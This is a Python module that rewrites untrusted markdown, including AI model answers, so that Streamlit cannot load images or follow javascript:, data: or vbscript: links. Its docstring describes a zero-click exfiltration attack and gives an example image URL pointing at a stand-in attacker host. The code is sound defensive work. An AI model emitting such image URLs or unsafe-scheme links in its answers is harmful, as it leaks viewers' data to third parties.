"""Untrusted markdown (model answers, prompts, server text) made safe to draw with Streamlit.

Streamlit draws markdown images in every element that takes markdown (chat messages,
captions, alerts, titles, button and widget labels): ``![](http://attacker/?d=...)`` in a
model's answer would make every viewer's browser fetch that URL, a zero-click tracking and
exfiltration channel. :func:`safe_markdown` keeps the formatting and turns

- every image (inline, reference, inside links, nested in another image's text) into a
  visible link ``[image: alt](url)``: a click is a choice, a load is not;
- every link or autolink whose URL has a scheme other than http, https or mailto
  (``javascript:``, ``data:``, ``vbscript:``, …) into plain text.

Code is never touched: fenced and indented code blocks and code spans stay byte for byte
(as Streamlit reads the text: it dedents and strips it before drawing, and so does this).
Raw HTML such as ``<img src=…>`` needs nothing: Streamlit shows it as text
(``unsafe_allow_html`` is never used for untrusted text).

How: markdown-it-py parses the text like Streamlit's CommonMark + GFM renderer does (raw
HTML off, so nothing is hidden in it; GFM footnotes on, whose content Streamlit renders);
its image, link and autolink rules are wrapped to note where each one starts; those spots
are rewritten in the source, and the result is parsed again until nothing is left
(an image inside an image's text shows up one round later). When a spot cannot be placed
in the source, the whole text is shown verbatim in a code block instead: never an image.
Pure: no streamlit import, unit-tested.
"""

from __future__ import annotations

import functools
import re
import sys
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal

from markdown_it import MarkdownIt
from markdown_it.common.utils import unescapeAll
from markdown_it.rules_inline.state_inline import StateInline
from markdown_it.token import Token
from mdit_py_plugins.footnote import footnote_plugin

SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
#: what an image becomes: ``![alt](u)`` -> ``[image: alt](u)``
IMAGE_PREFIX = "[image: "
#: rounds of parse-and-rewrite before giving up (one per level of images nested in images)
MAX_ROUNDS = 8

# An image starts with "!["; a link's URL follows "](" (inline) or "]:" (a reference
# definition); an autolink is "<scheme:". Text without an image or an unsafe URL after
# them is left as it is without parsing (which runs on every streamed redraw).
_DESTINATION = re.compile(r"\][(:]")
_AUTOLINK_SCHEME = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}):")
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_C0_AND_SPACE = "".join(chr(c) for c in range(0x21))
_LINE_BREAK = re.compile(r"(\r\n|\r|\n)")  # the line breaks markdown-it knows

_HAZARDS = "safe_markdown.hazards"  # env keys of one parse
_DEPTH = "safe_markdown.image_depth"

Kind = Literal["image", "link", "autolink"]


@dataclass(frozen=True)
class _Hazard:
    """An image or unsafe link, found at ``pos`` of the inline source ``src``."""

    src: str
    pos: int
    kind: Kind


class _Unplaceable(Exception):
    """A hazard whose place in the source text could not be found."""


def safe_markdown(text: str) -> str:
    """``text`` with every image turned into a link and unsafe links into text (see above)."""
    if not may_be_unsafe(text):
        return text
    return rewrite(text)


def rewrite(text: str) -> str:
    """:func:`safe_markdown` without the shortcut for text that has nothing to rewrite."""
    text = as_streamlit_reads(text)
    source = _Source.of(text)
    for _ in range(MAX_ROUNDS):
        try:
            spots = _unsafe_spots(source)
        except (_Unplaceable, RecursionError):
            break
        if not spots:
            return source.text()
        source = source.rewritten(spots)
    return verbatim(text)


def as_streamlit_reads(text: str) -> str:
    """``text`` as Streamlit draws it: its markdown, caption, alert and heading elements
    dedent and strip their body first, so ``"    ![x](u)"`` is an image there, not code."""
    return textwrap.dedent(text).strip()


def verbatim(text: str) -> str:
    """``text`` as a fenced code block: shown character for character, nothing parsed."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}\n{text}\n{fence}"


def may_be_unsafe(text: str) -> bool:
    """False when ``text`` has no image and no link URL with an unsafe scheme (cheap)."""
    if "![" in text:
        return True
    if any(m.group(1).lower() not in SAFE_SCHEMES for m in _AUTOLINK_SCHEME.finditer(text)):
        return True
    for match in _DESTINATION.finditer(text):
        start = match.end()
        url = text[start : start + 300].lstrip(" \t\r\n").removeprefix("<")
        if not url_is_safe(unescapeAll(url)):
            return True
    return False


def url_is_safe(url: str) -> bool:
    """True for http(s), mailto and URLs without a scheme (relative, ``#…``, ``//host``).

    As a browser reads it: tabs and newlines anywhere and leading control characters and
    spaces are ignored, so ``java\\tscript:`` is ``javascript:``."""
    cleaned = re.sub(r"[\t\n\r]", "", url).lstrip(_C0_AND_SPACE)
    match = _SCHEME.match(cleaned)
    return match is None or match.group(1).lower() in SAFE_SCHEMES


# ---------------------------------------------------------------- the source text


@dataclass(frozen=True)
class _Source:
    """The text as lines (as markdown-it numbers them) and the line breaks between them."""

    lines: tuple[str, ...]
    breaks: tuple[str, ...]

    @classmethod
    def of(cls, text: str) -> _Source:
        parts = _LINE_BREAK.split(text)
        return cls(tuple(parts[0::2]), tuple(parts[1::2]))

    def text(self) -> str:
        out = [self.lines[0]]
        for brk, line in zip(self.breaks, self.lines[1:], strict=True):
            out += [brk, line]
        return "".join(out)

    def rewritten(self, spots: list[tuple[int, int, Kind]]) -> _Source:
        """Each spot (line, column, kind) made harmless; right to left, so columns hold."""
        lines = list(self.lines)
        for line, col, kind in sorted(spots, reverse=True):
            s = lines[line]
            if kind == "image":  # "![alt" -> "[image: alt", "![]" -> "[image]"
                prefix = IMAGE_PREFIX.rstrip(": ") if s.startswith("![]", col) else IMAGE_PREFIX
                lines[line] = s[:col] + prefix + s[col + 2 :]
            else:
                lines[line] = s[:col] + "\\" + s[col:]  # "\[" or "\<": literal text
        return _Source(tuple(lines), self.breaks)


def _unsafe_spots(source: _Source) -> list[tuple[int, int, Kind]]:
    """Where images and unsafe links start in ``source``: (line, column, kind)."""
    env: dict = {_HAZARDS: [], _DEPTH: 0}
    tokens = _parser().parse(source.text(), env)
    hazards: list[_Hazard] = env[_HAZARDS]
    if not hazards:
        return []
    spots = []
    for token in _inline_tokens(tokens):
        mine = [h for h in hazards if h.src is token.content]
        if mine:
            place = _placer(token, source)
            spots += [(*place(h.pos), h.kind) for h in mine]
    if len(spots) != len(hazards):
        raise _Unplaceable(f"{len(hazards) - len(spots)} not in any block")
    for line, col, kind in spots:
        expected = "![" if kind == "image" else ("<" if kind == "autolink" else "[")
        if not source.lines[line].startswith(expected, col):
            raise _Unplaceable(f"{kind} not at line {line}, column {col}")
    return spots


def _inline_tokens(tokens: list[Token]):
    for token in tokens:
        if token.type == "inline":
            yield token


def _placer(token: Token, source: _Source) -> Callable[[int], tuple[int, int]]:
    """Maps an offset in an inline token's content to (line, column) in the source.

    Each line of the content is a piece of one source line, from ``token.map[0]`` on: the
    block markers before it (``>``, list markers, indentation, ``#``) and closing ``#``s
    or spaces after it are left out. A piece ends its (right-stripped) source line, or in
    a heading sits before the closing ``#``s, so its last occurrence there is its place.
    """
    if token.map is None:
        raise _Unplaceable("inline token without a line map")
    first_line = token.map[0]
    pieces: list[tuple[int, int, int, int]] = []  # content start, end, line, column
    offset = 0
    for i, piece in enumerate(token.content.split("\n")):
        core = piece.strip(" \t")
        start = offset + len(piece) - len(piece.lstrip(" \t"))
        line = first_line + i
        if core and line < len(source.lines):
            src_line = source.lines[line].replace("\0", "\ufffd").rstrip(" \t")
            col = src_line.rfind(core)
            if col >= 0:
                pieces.append((start, start + len(core), line, col))
        offset += len(piece) + 1

    def place(pos: int) -> tuple[int, int]:
        for start, end, line, col in pieces:
            if start <= pos < end:
                return line, col + pos - start
        raise _Unplaceable(f"offset {pos} of {token.content!r}")

    return place


# ---------------------------------------------------------------- the parser


@functools.cache
def _parser() -> MarkdownIt:
    """CommonMark as Streamlit reads it, where it matters for images and links.

    Raw HTML off: Streamlit shows it as text, and markdown-it would hide what is in an
    HTML block from the search. No limit on nesting (see below). GFM footnotes on: Streamlit renders their content (an
    image in a footnote loads). Every URL accepted and kept as written: markdown-it would
    drop ``javascript:`` links that Streamlit makes. Tables, math and bare-URL autolinks
    stay off: each only hides text from the search, none makes an image."""
    # No nesting limit: past it markdown-it stops parsing (Streamlit does not), and an image
    # nested deeper would go unseen; nesting too deep for Python's stack ends in verbatim.
    md = MarkdownIt("commonmark", {"html": False, "maxNesting": sys.maxsize})
    footnote_plugin(md, inline=False)  # GFM has no inline ^[...] footnotes
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    md.normalizeLink = lambda url: url  # type: ignore[method-assign]
    for name, kind in (("image", "image"), ("link", "link"), ("autolink", "autolink")):
        rule = next(r.fn for r in md.inline.ruler.__rules__ if r.name == name)
        md.inline.ruler.at(name, _noting(rule, kind))
    return md


def _noting(rule: Callable[[StateInline, bool], bool], kind: Kind):
    """``rule`` that also notes where it matched an image or an unsafe link.

    Only in the inline source of a block (depth 0): an image parses its text in a source
    of its own, whose offsets are not the block's; what is in there is found in the next
    round, once the image has become a link."""

    def noting(state: StateInline, silent: bool) -> bool:
        env = state.env
        depth, start, first_new = env.get(_DEPTH, 0), state.pos, len(state.tokens)
        if kind == "image":
            env[_DEPTH] = depth + 1
        try:
            matched = rule(state, silent)
        finally:
            env[_DEPTH] = depth
        noted = matched and not silent and depth == 0 and _HAZARDS in env
        if noted and (kind == "image" or not url_is_safe(_href(state.tokens[first_new:]))):
            env[_HAZARDS].append(_Hazard(state.src, start, kind))
        return matched

    return noting


def _href(tokens: list[Token]) -> str:
    opener = next(t for t in tokens if t.type == "link_open")
    return str(opener.attrGet("href") or "")
